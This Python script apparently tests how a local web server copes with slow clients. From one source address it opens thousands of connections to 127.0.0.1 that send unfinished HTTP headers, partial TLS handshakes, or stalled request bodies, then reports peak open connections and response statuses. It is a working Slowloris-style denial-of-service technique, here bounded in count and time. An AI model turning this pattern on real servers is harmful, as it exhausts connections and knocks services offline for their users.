#!/usr/bin/python3
"""Attack the web server of this host from one address: connections that never end what they began.

slow_clients.py --source 127.0.0.3 --port 80 --count 5000 --seconds 20 --kind head
--kind head   a request whose head never ends; a connection that the server closes is opened again
--kind tls    the first bytes of a TLS handshake
--kind body   a complete head by TLS, of whose body one byte is sent

Prints JSON: how many were open at once, and the statuses of the responses. Bounded in count and time.
"""

from __future__ import annotations

import argparse
import collections
import json
import pathlib
import resource
import socket
import ssl
import time

HEAD = b"GET / HTTP/1.1\r\nHost: shift.test\r\nX-Slow: "
BODY = b"POST /echo HTTP/1.1\r\nHost: shift.test\r\nContent-Length: 1000\r\n\r\nx"


def connect(options):
    """Return a new connection on which the first bytes were sent, or None where it was refused."""
    connection = socket.socket()
    try:
        connection.settimeout(5)
        connection.bind((options.source, 0))
        connection.connect(("127.0.0.1", options.port))
        if options.kind == "body":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            connection = context.wrap_socket(connection, server_hostname="shift.test")
        connection.sendall({"head": HEAD, "tls": b"\x16\x03\x01\x02\x00\x01", "body": BODY}[options.kind])
        connection.setblocking(False)
    except OSError:
        connection.close()
        return None
    return connection


def received(connection):
    """Return what came: bytes, b"" where it was closed, None where nothing did."""
    try:
        return connection.recv(4096)
    except (BlockingIOError, ssl.SSLWantReadError):
        return None
    except OSError:
        return b""


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--source", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--kind", choices=["head", "tls", "body"], required=True)
    parser.add_argument("--ready-file")
    options = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (options.count + 100, options.count + 100))
    connections, statuses, peak, end = set(), collections.Counter(), 0, None
    while end is None or time.monotonic() < end:
        for _ in range(min(options.count - len(connections), 1000)):
            connection = connect(options)
            if connection is None:
                break
            connections.add(connection)
        peak = max(peak, len(connections))
        if end is None and len(connections) >= 0.95 * options.count:
            end = time.monotonic() + options.seconds
            if options.ready_file:
                pathlib.Path(options.ready_file).write_text("ready\n", encoding="ascii")
        for connection in list(connections):
            data = received(connection)
            if data is None:
                continue
            if data.startswith(b"HTTP/"):
                statuses[data.split(b" ", 2)[1].decode()] += 1
            if not data or options.kind != "body":
                connections.discard(connection)
                connection.close()
        time.sleep(0.2)
    print(json.dumps({"peak": peak, "statuses": statuses}))


main()
